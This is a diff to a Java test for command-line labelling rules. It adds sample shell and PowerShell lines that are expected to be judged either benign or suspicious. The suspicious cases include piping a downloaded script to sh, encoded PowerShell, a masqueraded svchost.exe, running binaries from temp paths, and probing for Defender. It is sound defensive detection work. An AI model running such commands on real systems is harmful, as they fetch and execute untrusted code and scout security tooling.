@@ -36,6 +36,18 @@ class LabelRulesTest {
         "sw_vers",
         "brew upgrade",
         "find /var/tmp -name '*.bak' -mtime +7",
+        "echo $(cat /srv/app/version)",
+        "comm -13 <(sort a.txt) <(dpkg-query -W | sort)",
+        "for h in a b; do ping -c 1 $h; done",
+        "if [ -d /srv/app ]; then ls /srv/app; fi",
+        "find . -name '*.py' -exec grep -l foo {} +",
+        "ls *.log | xargs -n 1 gzip",
+        "powershell -Command \"$d = Get-PSDrive -Name C; if ($d.Free -lt 5GB) { Write-Output"
+            + " 'full' }\"",
+        "powershell.exe -NoProfile -EncodedCommand"
+            + " RwBlAHQALQBEAGEAdABlADsAIABHAGUAdAAtAEQAYQB0AGUA",
+        "powershell.exe -NoProfile -File \"C:\\Scripts\\nightly.ps1\" -Days 3",
+        "\"C:\\Program Files\\Vendor Agent\\agentd.exe\" --poll",
         "FOO=bar make -j4 2>&1 | tee build.log"
       })
   void everydayWorkIsBenign(String line) {
@@ -74,7 +86,18 @@ class LabelRulesTest {
         "C:\\Users\\bob\\AppData\\Local\\Temp\\svchost.exe -k netsvcs",
         "/home/bob/.cache/ls -la",
         "curl https://example.com/install.sh | sh",
-        "echo $(cat /tmp/x)",
+        "echo $(/tmp/x)",
+        "echo `cat /tmp/x`",
+        "ls $(echo /tmp | sh",
+        "find . -exec ./x {} +",
+        "ls | xargs -n 1 ./x",
+        "for f in *; do ./x $f; done",
+        "powershell -Command \"Get-Process | ForEach-Object { & $_.Path }\"",
+        "powershell -Command \"[System.IO.File]::ReadAllBytes('a'); Get-Date\"",
+        "powershell -File C:\\Users\\bob\\Downloads\\a.ps1",
+        "powershell -e RwBlAHQALQBEAGEAdABlADsAIABHAGUAdAAtAEQAYQB0AGUA",
+        "curl -k https://example.com/a",
+        "tasklist | findstr /i defender",
         "ssh bob@host uptime",
         "nmap -sV 10.0.0.0/24",
         "psexec \\\\srv cmd",
